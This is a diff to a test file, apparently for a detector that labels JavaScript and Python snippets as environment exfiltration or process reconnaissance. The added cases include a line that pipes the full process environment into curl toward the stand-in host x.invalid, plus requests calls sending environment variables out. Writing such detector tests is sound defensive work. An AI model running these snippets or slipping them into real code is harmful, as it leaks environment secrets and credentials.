@@ -52,6 +52,11 @@ describe('JavaScript', () => {
       'host-facts-sent',
     ],
     [
+      'the environment into what curl reads',
+      "require('child_process').spawnSync('curl', ['-d', '@-', 'https://x.invalid'], { input: JSON.stringify(process.env) })",
+      'environment-sent',
+    ],
+    [
       'module passed as an argument',
       "((cp) => cp.exec('whoami'))(require('child_process'))",
       'process-reconnaissance',
@@ -74,6 +79,11 @@ describe('JavaScript', () => {
     [
       'the environment of a child',
       "require('child_process').spawn('ls', [], { env: process.env }); fetch('https://x.invalid')",
+      'environment-sent',
+    ],
+    [
+      'the environment that curl is started with',
+      "const o = { env: process.env }; require('child_process').spawn('curl', ['https://x.invalid'], o)",
       'environment-sent',
     ],
     ['a local function named exec', "function exec(s) { return s } exec('whoami')", 'process-reconnaissance'],
@@ -155,6 +165,11 @@ describe('Python', () => {
     [
       'one variable',
       "import os, requests\nrequests.get('https://x.invalid', params={'s': os.environ['STAGE']})",
+      'environment-sent',
+    ],
+    [
+      'the environment of a program that speaks of curl',
+      "import os, subprocess, sys\nprogram = '# the curl version is not used\\nprint(1)'\nenv = dict(os.environ, A='b')\nsubprocess.run([sys.executable, '-c', program], env=env)",
       'environment-sent',
     ],
     [
